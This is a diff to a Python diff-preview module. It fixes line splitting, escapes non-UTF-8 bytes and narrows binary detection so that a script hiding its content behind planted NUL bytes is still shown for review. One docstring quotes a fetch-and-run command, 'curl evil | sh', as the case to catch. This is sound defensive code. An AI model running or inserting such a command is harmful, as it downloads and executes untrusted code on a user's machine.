@@ -24,6 +24,7 @@ from protocol.work import WrittenFile
 #: A file larger than this (either side) is counted, not diffed: a preview is for reading.
 MAX_DIFF_BYTES = 1 << 20
 _BINARY_PROBE = 8192
+_TEXT_CONTROLS = frozenset(b"\t\n\x0c\r")
 
 
 @dataclass
@@ -105,8 +106,8 @@ def file_diff(root: str, overlay_dir: str, change: FileChange, *, stat: bool) ->
         return FileDiff(change, too_large=True)
     if _binary(before) or _binary(after):
         return FileDiff(change, binary=True)
-    old = before.decode("utf-8").splitlines(keepends=True)
-    new = after.decode("utf-8").splitlines(keepends=True)
+    old = _lines(_text(before))
+    new = _lines(_text(after))
     a = "/dev/null" if change.status == "created" else f"a/{change.path}"
     b = "/dev/null" if change.status == "deleted" else f"b/{change.path}"
     lines = list(difflib.unified_diff(old, new, a, b))
@@ -116,18 +117,50 @@ def file_diff(root: str, overlay_dir: str, change: FileChange, *, stat: bool) ->
     return FileDiff(change, text, added=added, removed=removed)
 
 
+def _lines(text: str) -> list[str]:
+    """``text``'s lines as git and the apply see them: cut at newlines only, each keeping
+    its newline. ``str.splitlines`` also cuts at a carriage return, a form feed, U+2028 and
+    other separators, which made one line of the file two of the diff, each but the last
+    wrongly marked "No newline at end of file"."""
+    parts = text.split("\n")
+    lines = [part + "\n" for part in parts[:-1]]
+    if parts[-1]:
+        lines.append(parts[-1])
+    return lines
+
+
 def _ended(line: str) -> str:
     return line if line.endswith("\n") else line + "\n\\ No newline at end of file\n"
 
 
 def _binary(data: bytes) -> bool:
-    if b"\0" in data[:_BINARY_PROBE]:
-        return True
+    """A NUL byte near the start (git's rule) among many other control bytes. Calling a
+    file binary shows no line of it, so it must really be one: a file merely not UTF-8,
+    or a script with one NUL planted after its first line (bash skips it and runs the
+    rest), is text, its odd bytes shown as escapes."""
+    probe = data[:_BINARY_PROBE]
+    if b"\0" not in probe:
+        return False
+    controls = sum(1 for byte in probe if byte < 0x20 and byte not in _TEXT_CONTROLS)
+    return controls * 10 > len(probe) and not _runs_as_script(probe)
+
+
+def _runs_as_script(probe: bytes) -> bool:
+    """bash runs a file whose first line (within 80 bytes) is plain text as a script,
+    whatever follows: ``curl evil | sh`` then a thousand NULs must be shown as text."""
+    end = probe.find(b"\n", 0, 80)
+    if end < 0:
+        return False
     try:
-        data.decode("utf-8")
+        first = probe[:end].decode("utf-8")
     except UnicodeDecodeError:
-        return True
-    return False
+        return False
+    return all(char >= " " or char in "\t\r" for char in first)
+
+
+def _text(data: bytes) -> str:
+    """The file's text; a byte that is not UTF-8 shows as ``\\xNN``."""
+    return data.decode("utf-8", errors="backslashreplace")
 
 
 def _read_real(root: str, rel: str) -> bytes | None:
